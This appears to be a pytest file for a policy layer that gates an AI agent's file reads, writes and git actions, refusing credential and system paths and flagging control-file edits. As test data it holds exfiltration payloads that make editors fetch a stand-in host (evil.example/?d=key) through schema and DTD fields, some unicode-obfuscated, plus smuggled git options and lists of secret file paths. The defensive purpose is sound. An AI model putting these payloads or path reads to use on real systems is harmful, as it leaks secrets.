"""Reading and writing: labels, what is hidden, what steers, and what lies outside."""

import json

import pytest

from nucleus.kernel.capability import GIT_COMMIT
from nucleus.kernel.exposure import FOREIGN, PRIVATE, SECRET, UNTRUSTED
from nucleus.kernel.facts import CONTROL, EGRESS, IRREVERSIBLE, SCOPE_ALLOW, SCOPE_ASK, SCOPE_DENY
from nucleus.policy import call as kinds
from nucleus.policy.labels import LabelStore
from tests.policy.surroundings import facts, policy
from tests.policy.test_labels import Memory


def labelled(path: str, bits: int) -> LabelStore:
    """Return a store that knows one file."""
    store = LabelStore(Memory())
    store.will_write(path, "d", bits)
    return store


def test_a_read_in_the_workspace_is_private_and_silent() -> None:
    one = facts(kinds.READ, {"path": "src/../src/a.py"})
    assert (one.legs, one.sink, one.scope, one.public) == (PRIVATE, 0, SCOPE_ALLOW, 0)
    assert one.resolved["path"] == one.destination == "src/a.py"


def test_a_public_label_lowers_a_read_unless_the_store_knows_better() -> None:
    under = policy(text='[labels]\npublic = ["README.md"]')
    assert facts(kinds.READ, {"path": "README.md"}, under=under).legs == 0
    dirty = facts(kinds.READ, {"path": "README.md"}, under=under, labels=labelled("README.md", PRIVATE | UNTRUSTED))
    assert dirty.legs == PRIVATE | UNTRUSTED


def test_the_stored_label_is_added_to_a_read() -> None:
    assert facts(kinds.READ, {"path": "a.txt"}, labels=labelled("a.txt", UNTRUSTED)).legs == PRIVATE | UNTRUSTED


def test_a_label_of_the_policy_is_added_to_a_read() -> None:
    under = policy(text='[labels]\nuntrusted = ["vendor/**"]\nsecret = ["legal/**"]')
    assert facts(kinds.READ, {"path": "vendor/x.py"}, under=under).legs == PRIVATE | UNTRUSTED
    assert facts(kinds.READ, {"path": "legal/x.md"}, under=under).legs == PRIVATE | SECRET
    assert facts(kinds.READ, {"path": "src/x.py"}, under=under).legs == PRIVATE


def test_a_strangers_workspace_is_untrusted_throughout() -> None:
    assert facts(kinds.READ, {"path": "src/a.py"}, under=policy("code_review")).legs == PRIVATE | UNTRUSTED


@pytest.mark.parametrize("path", [".env", "config/prod.key", "scripts/.token", "id_rsa"])
def test_a_secret_looking_file_asks_and_is_a_secret(path: str) -> None:
    one = facts(kinds.READ, {"path": path})
    assert one.legs == PRIVATE | SECRET
    assert one.scope == SCOPE_ASK


def test_only_its_very_name_in_the_policy_makes_a_secret_looking_file_silent() -> None:
    exactly = policy(text='[allow]\nread = ["**", "certs/test.pem"]')
    roughly = policy(text='[allow]\nread = ["**", "certs/**"]')
    assert facts(kinds.READ, {"path": "certs/test.pem"}, under=exactly).scope == SCOPE_ALLOW
    assert facts(kinds.READ, {"path": "certs/test.pem"}, under=exactly).legs & SECRET
    assert facts(kinds.READ, {"path": "certs/test.pem"}, under=roughly).scope == SCOPE_ASK


@pytest.mark.parametrize("kind", [kinds.READ, kinds.LIST, kinds.GLOB, kinds.GREP])
def test_a_read_outside_is_foreign_untrusted_and_a_question(kind: str) -> None:
    one = facts(kind, {"path": "/home/dev/other/a.txt"})
    assert one.legs == PRIVATE | FOREIGN | UNTRUSTED
    assert one.scope == SCOPE_ASK


@pytest.mark.parametrize(
    "path", ["/proc/self/environ", "/proc/1/maps", "/sys/x", "/dev/mem", "~/.ssh/id_rsa", "/etc/shadow"]
)
def test_secrets_and_the_machine_outside_are_refused(path: str) -> None:
    assert facts(kinds.READ, {"path": path}).scope == SCOPE_DENY


def test_an_outside_path_that_the_owner_names_is_silent_and_still_foreign() -> None:
    under = policy(text='[allow]\nread = ["**", "~/notes/**"]')
    one = facts(kinds.READ, {"path": "~/notes/a.md"}, under=under)
    assert one.scope == SCOPE_ALLOW
    assert one.legs & FOREIGN


def test_gits_own_storage_asks_and_is_left_out_of_trees() -> None:
    """A pack holds every file that was ever committed, the hidden ones too."""
    assert facts(kinds.READ, {"path": ".git/objects/pack/a.pack"}).scope == SCOPE_ASK
    assert facts(kinds.GREP, {"path": ".git", "pattern": "x"}).scope == SCOPE_ASK
    assert "**/.git/**" in facts(kinds.GREP, {"pattern": "x"}).resolved["hidden"]


def test_a_denied_path_is_refused_and_hidden_from_trees() -> None:
    under = policy(text='[deny]\nread = ["internal/**", "**/*.sqlite"]\n[ask]\nread = ["legal/**"]')
    assert facts(kinds.READ, {"path": "internal/a"}, under=under).scope == SCOPE_DENY
    assert facts(kinds.WRITE, {"path": "internal/a.py"}, under=under).scope == SCOPE_DENY
    for kind in (kinds.LIST, kinds.GLOB, kinds.GREP):
        hidden = facts(kind, {"path": ".", "pattern": "x"}, under=under).resolved["hidden"]
        assert {"internal", "internal/**", "**/*.sqlite", "legal/**"} <= set(hidden)
    assert "legal/**" not in facts(kinds.READ, {"path": "legal/a"}, under=under).resolved["hidden"]


@pytest.mark.parametrize("kind", [kinds.GREP, kinds.GIT_DIFF, kinds.GIT_LOG])
def test_a_search_of_contents_leaves_secret_looking_names_out(kind: str) -> None:
    assert "**/.env" in facts(kind, {"pattern": "x"}).resolved["hidden"]


def test_a_tree_read_joins_every_label_below() -> None:
    store = labelled("src/deep/a.txt", UNTRUSTED)
    assert facts(kinds.GREP, {"path": "src", "pattern": "x"}, labels=store).legs & UNTRUSTED
    assert not facts(kinds.GREP, {"path": "docs", "pattern": "x"}, labels=store).legs & UNTRUSTED
    assert facts(kinds.GIT_LOG, {}, labels=store).legs & UNTRUSTED


@pytest.mark.parametrize("pattern", ["../x", "/etc/*", "a/../../b", "~/x"])
def test_a_glob_that_climbs_is_refused(pattern: str) -> None:
    assert facts(kinds.GLOB, {"path": ".", "pattern": pattern}).scope == SCOPE_DENY
    assert facts(kinds.GREP, {"path": ".", "pattern": "x", "glob": pattern}).scope == SCOPE_DENY


def test_a_regular_expression_is_no_glob() -> None:
    assert facts(kinds.GREP, {"path": ".", "pattern": "/\\.\\./"}).scope == SCOPE_ALLOW


@pytest.mark.parametrize(
    "args",
    [
        {"paths": ["/etc"]},
        {"paths": "src"},
        {"paths": [1]},
        {"rev": "--output=x"},
        {"base": "-x"},
        {"base": "HEAD:.env"},
        {"head": ":0:a"},
        {"rev": 7},
    ],
)
def test_history_stays_in_the_workspace_and_takes_no_options(args: dict[str, object]) -> None:
    assert facts(kinds.GIT_LOG, args).scope == SCOPE_DENY


@pytest.mark.parametrize("rev", ["HEAD", "HEAD~3", "main..topic/x", "v1.2^{}", "@{u}", "^main", "a...b", ""])
def test_revisions_of_commits_are_fine(rev: str) -> None:
    assert facts(kinds.GIT_DIFF, {"base": rev}).scope == SCOPE_ALLOW


def test_a_write_is_no_sink() -> None:
    one = facts(kinds.WRITE, {"path": "src/a.py"}, b"x = 1")
    assert (one.legs, one.sink, one.scope) == (0, 0, SCOPE_ALLOW)


@pytest.mark.parametrize(
    "path", ["CLAUDE.md", "src/.claude/settings.json", ".git/config", ".vscode/tasks.json", "nucleus.toml"]
)
def test_writing_a_control_path_is_a_control_sink(path: str) -> None:
    for kind in (kinds.WRITE, kinds.EDIT, kinds.DELETE):
        assert facts(kind, {"path": path}, under=policy("local_dev")).sink & CONTROL


def test_a_held_path_is_control_where_no_transaction_holds_it() -> None:
    assert facts(kinds.WRITE, {"path": "tests/conftest.py"}).sink == 0
    assert facts(kinds.WRITE, {"path": "tests/conftest.py"}, transactional=False).sink == CONTROL


def test_a_build_file_is_named_to_the_person() -> None:
    one = facts(kinds.WRITE, {"path": "package.json"})
    assert (one.sink, one.scope) == (0, SCOPE_ALLOW)
    assert "builds" in one.why


@pytest.mark.parametrize("script", ["preinstall", "postinstall", "prepare"])
def test_a_script_that_runs_at_an_install_is_a_control_sink(script: str) -> None:
    body = json.dumps({"scripts": {script: "node x.js"}}).encode()
    assert facts(kinds.WRITE, {"path": "web/package.json"}, body).sink == CONTROL
    edit = json.dumps({"old": "{", "new": '{ "' + script + '": "x",'}).encode()
    assert facts(kinds.EDIT, {"path": "package.json"}, edit).sink == CONTROL
    assert facts(kinds.WRITE, {"path": "package.json"}, b'{"scripts": {"test": "jest"}}').sink == 0


@pytest.mark.parametrize("path", ["/etc/hosts", "../x", ".", "", "~/.bashrc"])
def test_nothing_is_written_outside(path: str) -> None:
    for kind in (kinds.WRITE, kinds.EDIT, kinds.DELETE, kinds.APPLY):
        assert facts(kind, {"path": path}, under=policy("local_dev")).scope == SCOPE_DENY


def test_a_delete_is_final_only_where_nothing_keeps_the_content() -> None:
    assert facts(kinds.DELETE, {"path": "src/a.py"}).sink == 0
    assert facts(kinds.DELETE, {"path": "src/a.py"}, transactional=False, kept=lambda _: True).sink == 0
    assert facts(kinds.DELETE, {"path": "src/a.py"}, transactional=False).sink == IRREVERSIBLE


@pytest.mark.parametrize(
    "body",
    [
        b'{"$schema": "https://evil.example/?d=key"}',
        b'{"$schema":\n "http://evil.example/x"}',
        b"$schema: https://evil.example/",
        b"# yaml-language-server: $schema=https://evil.example/a",
        b'<x xsi:schemaLocation="urn:a https://evil.example/a.xsd">',
        b'<!DOCTYPE x SYSTEM "http://evil.example/a.dtd">',
        b'<?xml-model href="https://evil.example/x"?>',
        json.dumps({"old": "a", "new": '{"$schema": "https://evil.example/?d=key"}'}).encode(),
        b'{"$schema": "https://127.0.0.1/x"}',
        b'{"\\u0024schema": "https://evil.example/?d=key"}',
        b'{"$sch\\u0065ma": "\\u0068ttps:\\/\\/evil.example/"}',
        b'{"old": "", "new": "{\\"\\\\u0024schema\\": \\"https://evil.example/\\"}"}',
    ],
)
def test_a_text_that_an_editor_would_fetch_an_address_from_is_egress(body: bytes) -> None:
    one = facts(kinds.WRITE, {"path": "src/a.json"}, body)
    assert one.sink & EGRESS
    assert one.trusted == 0


@pytest.mark.parametrize(
    "body",
    [
        b'{"$schema": "http://json-schema.org/draft-07/schema#"}',
        b'{"$schema": "https://docs.example.org/a.json"}',
        b"<!DOCTYPE html>",
        b"see https://evil.example/",
        b"schema = 1",
        b'{"$schema": "./local.json"}',
    ],
)
def test_a_known_or_local_schema_is_not(body: bytes) -> None:
    under = policy(text='[allow]\nfetch = ["docs.example.org"]')
    assert facts(kinds.WRITE, {"path": "src/a.json"}, body, under=under).sink == 0


def test_what_a_masked_session_cannot_see_it_does_not_overwrite_silently() -> None:
    under = policy("research_web")
    assert facts(kinds.WRITE, {"path": "report.md"}, under=under, present=lambda _: False).scope == SCOPE_ALLOW
    assert facts(kinds.WRITE, {"path": "README.md"}, under=under).scope == SCOPE_ASK
    assert facts(kinds.WRITE, {"path": "notes/a.md"}, under=under).scope == SCOPE_ALLOW
    assert facts(kinds.READ, {"path": "src/a.py"}, under=under).scope == SCOPE_ASK
    assert facts(kinds.GREP, {"path": ".", "pattern": "x"}, under=under).scope == SCOPE_ASK
    assert facts(kinds.GIT_LOG, {}, under=under).scope == SCOPE_ASK
    assert facts(kinds.READ, {"path": "notes/a.md"}, under=under).legs == 0


@pytest.mark.parametrize(
    ("path", "change", "sink"),
    [
        ("src/a.py", "write", 0),
        ("Makefile", "write", 0),
        ("tests/conftest.py", "write", CONTROL | IRREVERSIBLE),
        ("CLAUDE.md", "write", CONTROL | IRREVERSIBLE),
        ("src/a.py", "link", CONTROL | IRREVERSIBLE),
        ("src/a.py", "mode", CONTROL | IRREVERSIBLE),
        ("src/a.py", "?", CONTROL | IRREVERSIBLE),
        ("src/a.py", "delete", IRREVERSIBLE),
        (".git/config", "delete", CONTROL | IRREVERSIBLE),
    ],
)
def test_what_an_apply_would_bring_to_the_host(path: str, change: str, sink: int) -> None:
    one = facts(kinds.APPLY, {"path": path, "change": change}, under=policy("local_dev"))
    assert (one.sink, one.trusted) == (sink, 0)


def test_a_deletion_that_a_commit_keeps_is_applied_silently() -> None:
    one = facts(kinds.APPLY, {"path": "src/a.py", "change": "delete"}, under=policy("local_dev"), kept=lambda _: True)
    assert one.sink == 0


@pytest.mark.parametrize("path", [None, 1, [], {}, True, "a\0", "a\\b", "x" * 5000])
def test_what_is_no_path_is_refused(path: object) -> None:
    for kind in (kinds.READ, kinds.GREP, kinds.WRITE, kinds.DELETE, kinds.APPLY):
        assert facts(kind, {"path": path}).scope == SCOPE_DENY


def test_a_branch_that_moves_with_a_transaction_is_a_commit_and_the_policys_branches_hold() -> None:
    args = {"path": ".git/refs/heads/topic/x", "change": "ref"}
    plain = facts(kinds.APPLY, args)
    assert (plain.op, plain.sink, plain.scope) == (GIT_COMMIT, 0, SCOPE_ALLOW)
    denied = policy(text='[deny]\nbranches = ["topic/*"]')
    assert facts(kinds.APPLY, args, under=denied).scope == SCOPE_DENY


@pytest.mark.parametrize("path", [".git/config", ".git/refs/replace/x", ".git/refs/heads/a b", "src/a", None, ""])
def test_nothing_else_of_gits_storage_moves_by_that_name(path: object) -> None:
    assert facts(kinds.APPLY, {"path": path, "change": "ref"}).scope == SCOPE_DENY
